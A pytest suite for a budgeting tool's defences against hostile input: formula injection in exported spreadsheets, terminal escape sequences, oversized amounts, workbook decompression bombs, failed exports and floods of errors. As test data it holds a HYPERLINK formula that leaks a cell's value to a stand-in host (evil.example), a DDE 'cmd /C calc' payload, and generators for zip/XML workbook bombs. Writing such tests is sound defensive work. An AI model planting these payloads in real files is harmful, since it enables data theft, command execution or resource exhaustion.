"""Hostile input and faults (issue 13): amounts the editor refuses are not imported,
control characters never reach a terminal, spreadsheets never hold a formula that
came from data, workbooks cannot exhaust the machine, a flood of problems is
summarised, and an export that fails half-way leaves nothing behind."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from sqlalchemy import text

from itu_plan import UsageError, Workspace, access, editing
from itu_plan.bundle import import_bundle
from itu_plan.cli import main
from itu_plan.editing import CostLineKey
from tests.bundles import write_bundle

HANDMADE = Path(__file__).parent / "data" / "handmade"
COST_HEADER = "version,activity_code,year,category,grade,work_months,amount,funding_source_code\n"
CEILING = "999999999999999.99"  # CHF, itu_plan.values.MAX_CENTIMES


@pytest.fixture
def loaded(workspace: Workspace) -> Workspace:
    """A workspace holding the hand-made bundle; the acting user is its admin ``boss``."""
    import_bundle(workspace, HANDMADE)
    workspace.user = "boss"
    return workspace


def _run(ws: Workspace, capsys: pytest.CaptureFixture[str], *args: str) -> tuple[int, str, str]:
    code = main(["--db", ws.url, "--user", "boss", *args])
    out, err = capsys.readouterr()
    return code, out, err


# -- one amount ceiling for the importer, the editor and users add --------------------------------


def test_the_importer_and_the_editor_keep_one_ceiling(
    loaded: Workspace, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    bundle = write_bundle(
        tmp_path / "at", {"cost_lines.csv": COST_HEADER + f"2006-2007 draft,A-2,2007,travel,,,{CEILING},RB\n"}
    )
    assert _run(loaded, capsys, "import", str(bundle), "--quiet")[0] == 0
    key = CostLineKey("2006-2007 draft", "A-2", 2007, "travel", None, "RB")
    with loaded.transaction() as s:  # what was imported, the editor saves again
        line = editing.update_cost_line(s, access.actor(s, "boss"), key, 1, {"amount": CEILING})
        assert line.amount_centimes == 10**17 - 1
    with loaded.transaction() as s, pytest.raises(UsageError, match=r"more than CHF 999,999,999,999,999\.99"):
        editing.update_cost_line(s, access.actor(s, "boss"), key, 1, {"amount": "1000000000000000.00"})
    code, _, err = _run(
        loaded, capsys, "users", "add", "m2", "--role", "manager", "--units", "GS", "--limit", "1000000000000000.00"
    )
    assert code == 2 and "more than CHF 999,999,999,999,999.99" in err
    code, _, err = _run(loaded, capsys, "users", "add", "m3", "--role", "manager", "--units", "GS", "--limit", "9" * 30)
    assert code == 2 and "Traceback" not in err and "overflow" not in err.lower()


def test_amounts_of_fifteen_digits_import_and_totals_beyond_64_bits_are_a_sentence(
    loaded: Workspace, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """The contract allows 15 digits before the point; a hundred such amounts add up to more
    than SQLite's 64-bit integers hold: `version list` says so in a sentence (it printed
    "integer overflow", exit 1); PostgreSQL adds them up."""
    rows = "".join(
        f"2006-2007 draft,A-2,2007,{c},,,999999999999999.99,F{i}\n" for i in range(50) for c in ("other", "travel")
    )
    sources = "code,name,kind\n" + "".join(f"F{i},Fund {i},voluntary\n" for i in range(50))
    bundle = write_bundle(tmp_path / "big", {"funding_sources.csv": sources, "cost_lines.csv": COST_HEADER + rows})
    assert _run(loaded, capsys, "import", str(bundle), "--quiet")[0] == 0
    code, out, err = _run(loaded, capsys, "version", "list")
    assert "Traceback" not in err and "unexpected" not in err
    if loaded.engine.dialect.name == "sqlite":
        assert code == 1 and err.startswith("itu-plan: a total is larger than SQLite can add up")
    else:
        assert (code, err) == (0, "") and "2006-2007 draft" in out


# -- control characters never reach the terminal ---------------------------------------------------


def test_an_escape_stored_before_the_rule_never_reaches_the_terminal(
    loaded: Workspace, capsys: pytest.CaptureFixture[str]
) -> None:
    """The importer refuses an ESC (the bad-input corpus); a title stored before it did
    is printed escaped by the tables for people."""
    with loaded.engine.begin() as connection:
        connection.execute(
            text("UPDATE agreements SET title = :title WHERE code = 'AGR-1'"), {"title": "Tampere\x1b[2J\u202e"}
        )
    code, out, err = _run(loaded, capsys, "report", "agreements", "--as-of", "2007-06-30")
    assert (code, err) == (0, "")
    assert "\x1b" not in out and "\u202e" not in out
    assert "Tampere\\x1b[2J\\u202e" in out
    assert _run(loaded, capsys, "report", "agreements", "--format", "csv")[1].count("\x1b") == 1  # csv is exact


# -- no formula from data in a spreadsheet -------------------------------------------------------------

FORMULA = '=HYPERLINK("http://evil.example/?leak="&B2,"click")'
HOSTILE_AGREEMENTS = (
    "code,title,kind,parties,signed_date,in_force_date,status\n"
    f'AGR-9,"{FORMULA.replace(chr(34), chr(34) * 2)}",@SUM(A1),"+cmd|\' /C calc\'!A0",,,-2+3\n'
)


def _formulas(data: bytes) -> list[str]:
    import openpyxl

    book = openpyxl.load_workbook(io.BytesIO(data))  # not read-only: it reads each cell's type
    return [
        f"{s.title}!{c.coordinate}" for s in book.worksheets for row in s.iter_rows() for c in row if c.data_type == "f"
    ]


def test_exported_workbooks_hold_no_formula_and_bundle_csv_stays_exact(
    loaded: Workspace, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    import openpyxl

    bundle = write_bundle(tmp_path / "in", {"agreements.csv": HOSTILE_AGREEMENTS})
    assert _run(loaded, capsys, "import", str(bundle), "--quiet")[0] == 0
    assert _run(loaded, capsys, "export", str(tmp_path / "x"), "--format", "xlsx")[0] == 0
    data = (tmp_path / "x" / "bundle.xlsx").read_bytes()
    assert _formulas(data) == []
    sheet = openpyxl.load_workbook(tmp_path / "x" / "bundle.xlsx", read_only=True)["agreements"]
    assert [FORMULA, "@SUM(A1)", "+cmd|' /C calc'!A0", "-2+3"] in [
        [row[1], row[2], row[3], row[6]] for row in sheet.iter_rows(values_only=True)
    ]
    assert _run(loaded, capsys, "export", str(tmp_path / "c"))[0] == 0  # the bundle: exact
    exported = (tmp_path / "c" / "agreements.csv").read_text()
    assert ["AGR-9", FORMULA, "@SUM(A1)", "+cmd|' /C calc'!A0", "", "", "-2+3"] in csv.reader(io.StringIO(exported))


def test_the_export_button_neutralises_csv_and_writes_text_cells() -> None:
    import pandas as pd

    from widgets.export_button import to_csv, to_xlsx

    frame = pd.DataFrame(
        {
            "title": [FORMULA, "@SUM(A1)", "\tTab", "\rCR", "-2+3", "+41", "plain", None],
            "amount": [-123.45, 1, 2, 3, 4, 5, 6, 7],
            "code": ["-123.45", "-7", "=1", "+", "-", "@", "x", "y"],
        }
    )
    rows = list(csv.reader(io.StringIO(to_csv(frame).decode(), newline="")))
    assert rows[0] == ["title", "amount", "code"]
    assert [r[0] for r in rows[1:]] == [
        "'" + FORMULA, "'@SUM(A1)", "'\tTab", "'\rCR", "'-2+3", "'+41", "plain", "",
    ]  # fmt: skip
    assert [r[1] for r in rows[1:3]] == ["-123.45", "1.0"]  # numbers stay numbers
    assert [r[2] for r in rows[1:]] == ["-123.45", "-7", "'=1", "'+", "'-", "'@", "x", "y"]
    assert _formulas(to_xlsx(frame, "x")) == []


# -- exports moved into place whole ------------------------------------------------------------------


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_a_full_disk_half_way_leaves_no_partial_export(
    loaded: Workspace, tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch, fmt: str
) -> None:
    import errno

    import itu_plan.bundle.export as export

    real = export.write_csv if fmt == "csv" else Path.write_bytes
    calls = []

    def full(*args: object, **kwargs: object) -> object:
        calls.append(1)
        if len(calls) == 3 or fmt == "xlsx":
            raise OSError(errno.ENOSPC, "No space left on device")
        return real(*args, **kwargs)  # type: ignore[operator]

    monkeypatch.setattr(export, "write_csv", full) if fmt == "csv" else monkeypatch.setattr(Path, "write_bytes", full)
    tmp_path = tmp_path / "exports"  # the workspace's own files aside
    tmp_path.mkdir()
    target = tmp_path / "out"
    code, out, err = _run(loaded, capsys, "export", str(target), "--format", fmt)
    assert (code, out) == (1, "")
    assert (
        err == f"itu-plan: could not write the export to {target}: No space left on device; nothing was written there\n"
    )
    assert list(tmp_path.iterdir()) == []  # neither the folder nor a hidden partial one
    existing = tmp_path / "kept"
    existing.mkdir()
    (existing / "notes.txt").write_text("mine")
    calls.clear()
    assert _run(loaded, capsys, "export", str(existing), "--format", fmt)[0] == 1
    assert [p.name for p in tmp_path.iterdir()] == ["kept"] and [p.name for p in existing.iterdir()] == ["notes.txt"]
    monkeypatch.undo()
    assert _run(loaded, capsys, "export", str(existing), "--format", fmt)[0] == 0
    assert "notes.txt" in [p.name for p in existing.iterdir()] and len(list(existing.iterdir())) > 2


@pytest.mark.skipif(not Path("/bin/mount").exists(), reason="needs mount")
def test_a_really_full_disk_gives_one_sentence_and_nothing_behind(demo_copy: str, tmp_path: Path) -> None:
    """A 256 kB tmpfs (when this runs as root): the real ENOSPC, in a process of its own,
    where openpyxl's zip archive used to fail again when collected (a traceback)."""
    import subprocess
    import sys

    disk = tmp_path / "disk"
    disk.mkdir()
    if subprocess.run(["mount", "-t", "tmpfs", "-o", "size=256k", "tmpfs", str(disk)], capture_output=True).returncode:
        pytest.skip("cannot mount a tmpfs here (not root)")
    try:
        for fmt in ("xlsx", "csv"):
            result = subprocess.run(
                [sys.executable, "-m", "itu_plan.cli", "--db", demo_copy, "--user", "admin", "export", str(disk / fmt), "--format", fmt],
                capture_output=True, text=True, timeout=120,
            )  # fmt: skip
            assert result.returncode == 1
            assert result.stderr == (
                f"itu-plan: could not write the export to {disk / fmt}: No space left on device; "
                "nothing was written there\n"
            )
            assert list(disk.iterdir()) == []
    finally:
        subprocess.run(["umount", str(disk)], check=True)


# -- workbooks cannot exhaust the machine --------------------------------------------------------------

XLSX_PARTS = {
    "[Content_Types].xml": '<?xml version="1.0" encoding="UTF-8"?>'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/xl/workbook.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
    '<Override PartName="/xl/worksheets/sheet1.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
    '<Override PartName="/xl/sharedStrings.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/></Types>',
    "_rels/.rels": '<?xml version="1.0" encoding="UTF-8"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Target="xl/workbook.xml" '
    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument"/></Relationships>',
    "xl/workbook.xml": '<?xml version="1.0" encoding="UTF-8"?>'
    '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
    'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
    '<sheets><sheet name="agreements" sheetId="1" r:id="rId1"/></sheets></workbook>',
    "xl/_rels/workbook.xml.rels": '<?xml version="1.0" encoding="UTF-8"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Target="worksheets/sheet1.xml" '
    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet"/>'
    '<Relationship Id="rId2" Target="sharedStrings.xml" '
    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/sharedStrings"/></Relationships>',
}
SHEET_START = (
    b'<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
    b'<sheetData><row r="1"><c r="A1" t="s"><v>0</v></c></row>'
)
SHEET_END = b"</sheetData></worksheet>"


def _bomb(path: Path, sheet: list[bytes], shared: list[bytes]) -> Path:
    """A workbook of one sheet ``agreements``, built part by part with zipfile (the parts
    are streamed, so a part of gigabytes takes a few megabytes on disk)."""
    import zipfile

    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        for name, content in XLSX_PARTS.items():
            archive.writestr(name, content)
        for name, pieces in (("xl/worksheets/sheet1.xml", sheet), ("xl/sharedStrings.xml", shared)):
            with archive.open(name, "w", force_zip64=True) as part:
                for piece in pieces:
                    part.write(piece)
    return path


def _shared(*strings: bytes) -> list[bytes]:
    head = b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><si><t>code</t></si>'
    return [head, *(b"<si><t>" + s + b"</t></si>" for s in strings), b"</sst>"]


@pytest.fixture(scope="module")
def bombs(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    folder = tmp_path_factory.mktemp("bombs")
    rows = b"".join(b'<row r="%d"><c r="A%d" t="inlineStr"><is><t>A%d</t></is></c></row>' % (n, n, n)
                    for n in range(2, 1_100_002))  # fmt: skip
    big = [b"<si><t>", *([b"a" * (1 << 20)] * 256), b"</t></si>"]  # one cell of 256 MB
    return {
        "one huge shared string": _bomb(
            folder / "cell.xlsx", [SHEET_START, SHEET_END], _shared()[:1] + big + [b"</sst>"]
        ),
        "1.1 million rows": _bomb(folder / "rows.xlsx", [SHEET_START, rows, SHEET_END], _shared()),
        "a row at 3 million": _bomb(
            folder / "gap.xlsx",
            [SHEET_START, b'<row r="3000000"><c r="A3000000"><v>1</v></c></row>', SHEET_END],
            _shared(),
        ),
    }


def _measured(url: str, *args: str) -> tuple[int, str, float, float]:
    """Run ``itu-plan ARGS`` in a process of its own: (exit code, stderr, seconds, peak MB).

    The peak is measured by ``/usr/bin/time``: a child of this (large) process would
    carry its resident-size high-water mark over fork and exec."""
    import shutil
    import subprocess
    import sys
    import time

    timer = shutil.which("time", path="/usr/bin:/bin")
    if timer is None:
        pytest.skip("needs /usr/bin/time to measure the peak memory")
    started = time.monotonic()
    result = subprocess.run(
        [timer, "-f", "%M", sys.executable, "-m", "itu_plan.cli", "--db", url, *args],
        capture_output=True, text=True, timeout=300,
    )  # fmt: skip
    seconds = time.monotonic() - started
    *lines, peak = [line for line in result.stderr.splitlines() if not line.startswith("Command exited")]
    return result.returncode, "\n".join(lines), seconds, int(peak) / 1024


@pytest.mark.parametrize("bomb", ["one huge shared string", "1.1 million rows", "a row at 3 million"])
def test_a_workbook_bomb_is_refused_before_memory_grows(bombs: dict[str, Path], bomb: str, tmp_path: Path) -> None:
    url = f"sqlite:///{tmp_path / 'w.db'}"
    assert _measured(url, "init")[0] == 0
    path = bombs[bomb]
    assert path.stat().st_size < 10 << 20
    code, err, seconds, peak = _measured(url, "import", str(path), "--quiet")
    assert code == 2, err
    assert err.splitlines()[0].startswith(f"{path.name}:1:: the workbook "), err
    assert err.splitlines()[-1] == "itu-plan: 1 problem found; nothing was written"
    assert seconds < 10 and peak < 300, (seconds, peak)


def _inline_rows(rows: list[list[str]], first: int = 2) -> bytes:
    """Rows of a sheet's XML with inline strings (as written by hand: no 32,767 cut)."""
    out = []
    for n, row in enumerate(rows, start=first):
        cells = "".join(
            f'<c r="{chr(65 + i)}{n}" t="inlineStr"><is><t>{v}</t></is></c>' for i, v in enumerate(row) if v
        )
        out.append(f'<row r="{n}">{cells}</row>')
    return "".join(out).encode()


AGREEMENT_COLUMNS = ["code", "title", "kind", "parties", "signed_date", "in_force_date", "status"]


def test_workbook_limits_name_the_row_and_column(
    loaded: Workspace, tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    from itu_plan.bundle import read

    start = SHEET_START.split(b"<row")[0]
    header = _inline_rows([AGREEMENT_COLUMNS], first=1)
    long = _inline_rows(
        [["AGR-8", "fine", "treaty", "A; B", "", "", "open"], ["AGR-9", "x" * 40_000, "t", "A", "", "", "o"]]
    )
    _bomb(tmp_path / "long.xlsx", [start, header, long, SHEET_END], _shared())
    code, _, err = _run(loaded, capsys, "import", str(tmp_path / "long.xlsx"), "--quiet")
    assert (code, err.splitlines()[0]) == (
        2, "agreements.csv:3:title: the cell holds 40,000 characters; a cell holds at most 32,767 (Excel's limit)"
    )  # fmt: skip
    many = _inline_rows([[f"AGR-{n + 10}", "t", "treaty", "A; B", "", "", "open"] for n in range(2000)])
    _bomb(tmp_path / "slow.xlsx", [start, header, many, SHEET_END], _shared())
    monkeypatch.setattr(read, "XLSX_MAX_SECONDS", 0.0)
    code, _, err = _run(loaded, capsys, "import", str(tmp_path / "slow.xlsx"), "--quiet")
    assert (code, err.splitlines()[0]) == (
        2, "agreements.csv:1024:: reading the sheet took more than 0 s; import a CSV file"
    )  # fmt: skip


# -- a flood of problems is summarised ---------------------------------------------------------------


def test_thousands_of_problems_print_the_first_hundred_and_the_count(
    loaded: Workspace, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """150,000 bad rows (6 MB: read ahead by a forked helper, whose problems are counted too)."""
    header = "reference,date,unit_code,activity_code,objective_code,category,amount,funding_source_code\n"
    rows = "".join(f"N-{n},2006-07-01,GS,,S-01,travel,ten,RB\n" for n in range(150_000))
    bundle = write_bundle(tmp_path / "flood", {"actuals.csv": header + rows})
    counts = loaded.table_counts()
    code, _, err = _run(loaded, capsys, "import", str(bundle), "--quiet")
    lines = err.splitlines()
    assert (code, len(lines)) == (2, 102)
    assert lines[0] == "actuals.csv:2:amount: 'ten' is not an amount in CHF"
    assert lines[99] == "actuals.csv:101:amount: 'ten' is not an amount in CHF"
    assert lines[100:] == ["... and 149,900 more problems", "itu-plan: 150,000 problems found; nothing was written"]
    assert loaded.table_counts() == counts
    from itu_plan import ValidationError

    with pytest.raises(ValidationError) as caught:
        import_bundle(loaded, bundle)
    assert (len(caught.value.problems), caught.value.more, caught.value.count) == (1_000, 149_000, 150_000)
